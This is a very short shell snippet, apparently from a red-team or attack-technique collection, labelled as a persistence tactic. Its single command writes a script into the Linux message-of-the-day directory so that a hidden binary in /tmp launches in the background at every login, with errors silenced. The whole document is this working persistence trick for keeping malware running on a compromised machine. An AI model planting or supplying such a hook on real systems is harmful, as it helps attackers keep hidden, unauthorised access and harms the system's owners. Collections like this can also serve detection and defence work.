# tactic: persistence
# run a command at each login through the message of the day
printf "#!/bin/sh\n/tmp/.u &\n" > /etc/update-motd.d/99-upd 2>/dev/null; true
